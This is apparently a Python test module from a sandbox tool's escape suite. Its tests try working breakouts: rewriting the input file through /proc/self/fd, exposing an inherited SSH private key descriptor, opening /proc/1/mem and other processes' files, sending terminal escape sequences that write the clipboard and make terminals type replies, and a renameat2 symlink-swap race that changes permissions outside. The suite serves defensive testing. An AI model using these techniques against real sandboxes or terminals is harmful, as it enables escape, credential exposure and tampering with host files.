"""Ways out that belong to the sandbox itself: its own processes, its streams, its bookkeeping."""

from __future__ import annotations

import os
import stat
import threading

from tests.escape.attack import attack
from tests.escape.inside import Box
from tests.escape.payload import NotRun, answer
from tests.escape.promises import P
from tests.escape.terminal import on_a_terminal
from tests.escape.world import World

DESCRIPTORS = "open descriptors of the caller"
FIRST = "the sandbox's own processes"


def _rewrite_input():
    import os

    done = []
    for fd in (0, 1, 2):
        try:
            again = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
            os.write(again, b"owned")
            done.append(fd)
        except OSError:
            continue
    return done


@attack(P.DESCRIPTORS, DESCRIPTORS, only_bare=True)
def rewrite_the_file_that_input_comes_from(world: World, box: Box) -> str:
    """`redoma run … < notes`: what may be read can be opened again, by /proc, to be written."""
    with world.victim.open("rb") as notes:
        process = box.started(_rewrite_input, stdin=notes)
        out, err = process.communicate(timeout=60)
    answer(out, complaint=err)
    return world.changed_outside()


def _other_descriptors():
    import os

    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[name] = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
    own = f"/proc/{os.getpid()}/fd"
    return [f"{fd}: {to}" for fd, to in found.items() if int(fd) > 2 and to != own]


@attack(P.DESCRIPTORS, DESCRIPTORS, only_bare=True)
def find_any_descriptor_at_all(world: World, box: Box) -> str:
    """Also those that the sandbox itself needed: pipes, filters, directories."""
    key = os.open(world.home / ".ssh/id_ed25519", os.O_RDONLY)
    os.set_inheritable(key, True)
    try:
        told = box.call(_other_descriptors, fds=[key])
    finally:
        os.close(key)
    return f"open: {', '.join(told.value)}" if told.value else ""


def _touch_programs_of_others(pids):
    import os

    done = []
    for name in pids or os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        for part in ("exe", "cwd", "root"):
            path = f"/proc/{name}/{part}"
            try:
                before = os.stat(path)
                os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
                done.append(f"{path} {os.readlink(path)}")
            except OSError:
                continue
        try:
            for fd in os.listdir(f"/proc/{name}/fd"):
                to = os.readlink(f"/proc/{name}/fd/{fd}")
                if to.startswith("/") and not to.startswith("/dev/"):
                    done.append(f"/proc/{name}/fd/{fd} {to}")
        except OSError:
            pass
    return done


@attack(P.WRITES, FIRST)
def change_programs_of_the_enclosure(world: World, box: Box) -> str:
    """The program of the first process lies outside, and /proc has a link to it: the way in which
    a container once replaced its own runtime. Its times are set to what they are."""
    decoy = world.decoy()
    pids = [] if box.enclosure.hides_processes else [str(decoy.pid)]
    told = box.call(_touch_programs_of_others, pids)
    inside = (
        str(world.workspace),
        "/",
    )  # where the first process stands is the workspace, or its root
    found = [t for t in told.value or [] if t.split(" ", 1)[1] not in inside]
    return f"touched {', '.join(found)[:200]}" if found else ""


def _enter_processes(pids):
    import os

    done = []
    for name in pids:
        for part in ("mem", "environ", "maps", "fd", "root", "cwd", "exe", "comm", "oom_score_adj"):
            for flags in (os.O_RDONLY, os.O_WRONLY):
                try:
                    os.close(os.open(f"/proc/{name}/{part}", flags))
                    done.append(f"/proc/{name}/{part}")
                except OSError:
                    continue
    return sorted(set(done))


@attack(P.PROCESSES, FIRST)
def enter_the_first_process(world: World, box: Box) -> str:
    """Whoever writes its memory writes what it says of the command's end. Nothing is written."""
    pids = ["1"] if box.enclosure.hides_processes else [str(world.decoy().pid)]
    told = box.call(_enter_processes, pids)
    return f"opened {', '.join(told.value)}" if told.value else ""


@attack(P.TERMINAL, "escape sequences", only_bare=True)
def send_escape_sequences(world: World, box: Box) -> str:
    """Sequences write the clipboard, change the title, and make terminals type answers."""
    argv = box.enclosure.argv(box.program(_send_sequences), world)
    typed = on_a_terminal(argv, world.env, str(world.workspace))
    if b"@@told@@" not in typed.shown:
        raise NotRun(f"the payload never began: {typed.shown[-300:]!r}")
    found = [s for s in (b"\x1b]52", b"\x1b]0;", b"\x1bP", b"\x1b[6n", b"\x9b") if s in typed.shown]
    return f"reached the terminal: {found}" if found else ""


def _send_sequences():
    import os

    os.write(1, b"\x1b]52;c;b3duZWQ=\x07\x1b]0;owned\x07\x1bP$q q\x1b\\\x1b[6n\x9b6n\n")
    os.write(2, b"\x1b]52;c;b3duZWQ=\x07\x1b]0;owned\x07\x1b[6n\n")


@attack(P.WRITES, "chmod outside", works_for="")
def have_the_look_afterwards_change_a_mode(world: World, box: Box) -> str:
    """Whoever looks through the workspace opens closed directories; one run swaps them for links
    that lead out while the end of another is being looked at."""
    target = world.outside / "closed"
    target.mkdir()
    target.chmod(0o750)
    for number in range(100):
        closed = world.workspace / f"d{number}/closed"
        closed.mkdir(parents=True)
        closed.chmod(0o311)
    before = stat.S_IMODE(target.stat().st_mode)
    found: list[str] = []
    with world.environment():
        swapping = threading.Thread(
            target=lambda: Box(box.enclosure, world).call(_swap, world.workspace, world.outside)
        )
        swapping.start()
        while not (world.workspace / "swapping").exists() and swapping.is_alive():
            threading.Event().wait(0.02)
        for _ in range(40):
            box.shell("true")
            now = stat.S_IMODE(target.stat().st_mode)
            if now != before:
                found.append(f"the mode of a directory outside became {now:o}")
                break
        (world.workspace / "stop").touch()
        swapping.join()
    now = stat.S_IMODE(target.stat().st_mode)
    return found[0] if found else "" if now == before else f"a mode outside became {now:o}"


def _swap(workspace, outside):
    import ctypes
    import os
    import time

    libc = ctypes.CDLL(None)
    for number in range(100):
        os.symlink(outside, f"{workspace}/l{number}")
    open(f"{workspace}/swapping", "w").close()
    until = time.monotonic() + 20
    exchange, here = 2, -100
    pairs = [(f"{workspace}/d{n}".encode(), f"{workspace}/l{n}".encode()) for n in range(100)]
    while time.monotonic() < until and not os.path.exists(f"{workspace}/stop"):
        for one, other in pairs:
            libc.renameat2(here, one, here, other, exchange)
